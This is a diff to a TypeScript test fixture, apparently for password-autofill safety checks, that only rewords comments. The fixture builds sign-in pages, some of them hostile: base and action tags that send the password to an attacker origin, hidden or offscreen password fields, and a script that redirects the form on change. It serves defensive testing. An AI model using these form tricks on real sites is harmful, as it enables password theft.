@@ -11,7 +11,7 @@ type Form = {
 
 const POST = html` method="post" action="/login"`;
 
-/** Sign-in forms that send the password where it must not go. They need no script of the attacker's, unless they say so. */
+/** Sign-in forms that send the password to a wrong place. No attacker's script is needed, unless noted. */
 const BAD_FORMS = {
   'base-elsewhere': elsewhere => ({ before: html`<base href="${elsewhere}/">` }),
   'action-elsewhere': elsewhere => ({ attributes: html` method="post" action="${elsewhere}/login"` }),
@@ -58,7 +58,7 @@ const BAD_FORMS = {
   'tiny-field': () => ({ password: html` style="width: 1px; height: 1px; padding: 0; border: 0"` }),
   'field-outside-the-page': () => ({ password: html` style="position: absolute; left: -9999px"` }),
   'field-not-drawn': () => ({ before: html`<details><summary>More</summary>`, after: html`</details>` }),
-  /** By the page's own script, which sees what is typed in any case. */
+  /** By the page's own script, which can read typed passwords anyway. */
   'changed-as-it-is-filled': elsewhere => ({
     after: html`<script>
       document.querySelector('[type=password]').addEventListener('change', ({ target }) => (target.form.action = '${elsewhere}/login'));
@@ -66,21 +66,21 @@ const BAD_FORMS = {
   }),
 } as const satisfies Readonly<Record<string, (elsewhere: string) => Form>>;
 
-/** Forms that become bad by what happens after the look at them. */
+/** Forms that become unsafe after they were checked. */
 const CHANGING_FORMS = {
-  /** The server itself sends the post on, with the password in it. */
+  /** The server redirects the POST, with the password in it. */
   'server-elsewhere': () => ({ attributes: html` method="post" action="/moved-login"` }),
-  /** The form of another origin's page, which sends to the right one: its own scripts would see what is typed. */
+  /** A form on a page of another origin that posts to the right one: the page's scripts could read typed passwords. */
   moved: elsewhere => ({
     attributes: html` method="post" action="${elsewhere.replace('localhost', '127.0.0.1')}/login"`,
   }),
-  /** The same form in a frame as in the page. */
+  /** The same form in a frame and in the page. */
   framed: () => ({ after: html`<iframe src="/login" title="Sign in" width="300" height="400"></iframe>` }),
 } as const satisfies Readonly<Record<string, (elsewhere: string) => Form>>;
 
-/** Forms that look odd, and send the password to their own origin. */
+/** Unusual forms that send the password to their own origin. */
 const GOOD_FORMS = {
-  /** WordPress calls a field "action", and others do worse. */
+  /** WordPress names a field "action", which shadows the form's property. */
   'fields-named-like-properties': () => ({
     within: html`<input type="hidden" name="action" value="sign-in"><input type="hidden" name="method"><input type="hidden" name="target">
       <input type="hidden" name="elements"><input type="hidden" name="requestSubmit"><input type="hidden" name="querySelector">
@@ -104,7 +104,7 @@ const FORMS: Readonly<Record<FormName, (elsewhere: string) => Form>> = {
   ...GOOD_FORMS,
 };
 
-/** The sign-in page with one of these forms. `elsewhere` is another origin, which the attacker has. */
+/** Sign-in page with one of these forms. `elsewhere` is the attacker's origin. */
 export function formPage(name: FormName, elsewhere: string): string {
   const nothing = html``;
   const { attributes = POST, before = nothing, within = nothing, password = nothing } = FORMS[name](elsewhere);
